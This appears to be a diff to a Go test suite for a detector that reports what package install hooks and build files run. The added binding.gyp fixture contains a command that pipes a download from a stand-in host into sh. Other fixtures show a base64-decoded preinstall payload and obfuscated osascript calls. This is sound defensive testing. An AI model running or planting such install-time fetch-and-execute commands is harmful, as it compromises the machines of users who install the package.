@@ -163,6 +163,7 @@ func TestHooksAndBuildFilesTellWhatTheyRun(t *testing.T) {
 		{"decoded hook", uses(ReadManifest([]byte(`{"scripts": {"preinstall": "base64 -d assets/logo | node -"}}`), nil)), "call eval:decoded"},
 		{"binding.gyp", uses(ReadBuild([]byte(`{"targets": [{"sources": ["<!(node -e \"require('net')\")"]}]}`))), "module net"},
 		{"substitution in quotes", uses(ReadBuild([]byte(`{'variables': {'x%': '<!(node -e "require(\'net\')")'}}`))), "module net"},
+		{"what gyp downloads", uses(ReadBuild([]byte(`{"targets": [{"sources": ["<!(curl -s http://kit.test/a | sh; python3 a.py)"]}]}`))), "call install:fetch, call install:run-fetched"},
 		{"action of gyp", uses(ReadBuild([]byte("{'actions': [{'action': ['sh', '-c', 'osa' # joined\n 'script -e beep']}]}"))), "call start:osascript*"},
 		{"makefile", uses(ReadMakefile([]byte("T := $(subst x,osa,xscript)\nall:\n\t$(T) -e beep\n"))), "call start:osascript*"},
 		{"Perl", uses(ReadProgram([]byte(`my $t = "osa" . "script"; system($t, "-e");`))), "call start:osascript*"},
